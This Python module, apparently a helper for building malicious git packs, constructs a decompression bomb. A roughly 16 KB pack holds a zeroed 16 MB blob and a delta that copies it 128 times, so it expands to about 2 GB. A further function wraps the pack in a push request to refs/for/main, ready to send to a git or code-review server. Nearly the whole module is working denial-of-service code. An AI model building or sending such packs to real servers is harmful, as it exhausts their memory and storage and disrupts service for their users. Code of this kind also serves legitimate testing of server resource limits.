"""Packs of git, built byte by byte as a program of somebody's own would: a few kilobytes that unfold into gigabytes."""

from __future__ import annotations

import hashlib
import struct
import zlib
from collections.abc import Iterable

MEGABYTE = 1 << 20
COMMIT, TREE, BLOB, DELTA = 1, 2, 3, 7
"""Kinds of entries; a delta names the object that it is made from."""
LONGEST_COPY = 0xFFFFFF
"""Bytes that one instruction of seven bytes takes over from another object."""


def name_of(kind: bytes, parts: Iterable[bytes], size: int) -> str:
    """Return the id of an object that consists of `parts`, `size` bytes in all."""
    digest = hashlib.sha1(b"%s %d\0" % (kind, size), usedforsecurity=False)
    for part in parts:
        digest.update(part)
    return digest.hexdigest()


def entry(kind: int, size: int, packed: bytes) -> bytes:
    """Return an entry of `size` bytes unpacked."""
    head = bytearray()
    byte, size = (kind << 4) | (size & 15), size >> 4
    while size:
        head.append(byte | 0x80)
        byte, size = size & 0x7F, size >> 7
    head.append(byte)
    return bytes(head) + packed


def varint(number: int) -> bytes:
    """Return a number as deltas write it."""
    found = bytearray()
    while number >= 0x80:
        found.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes(found) + bytes([number])


def zeros(size: int) -> bytes:
    """Return so many zeros packed, whole megabytes, without holding them."""
    packer = zlib.compressobj(1)
    pieces = [packer.compress(bytes(MEGABYTE)) for _ in range(size // MEGABYTE)]
    return b"".join(pieces) + packer.flush()


def delta(base: str, base_size: int, copies: int) -> bytes:
    """Return an entry that is its base from the start, as often as it is told."""
    body = varint(base_size) + varint(copies * LONGEST_COPY) + copies * b"\xf0\xff\xff\xff"
    return entry(DELTA, len(body), bytes.fromhex(base) + zlib.compress(body))


def plain(kind: int, data: bytes) -> bytes:
    """Return an entry that holds `data` as it is."""
    return entry(kind, len(data), zlib.compress(data))


def pack_of(*entries: bytes) -> bytes:
    """Return the whole pack."""
    whole = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return whole + hashlib.sha1(whole, usedforsecurity=False).digest()


def bomb(copies: int = 128) -> bytes:
    """Return a pack of 16 KB with a file of 16 MB and another that takes it over so often: 2 GB."""
    base = bytes(16 * MEGABYTE)
    return pack_of(plain(BLOB, base), delta(name_of(b"blob", [base], len(base)), len(base), copies))


def push_of(commit: str, pack: bytes) -> bytes:
    """Return the body of a request that pushes a pack as the proposal `commit`."""
    command = b"%s %s refs/for/main\0report-status side-band-64k agent=x\n" % (b"0" * 40, commit.encode())
    return b"%04x" % (len(command) + 4) + command + b"0000" + pack
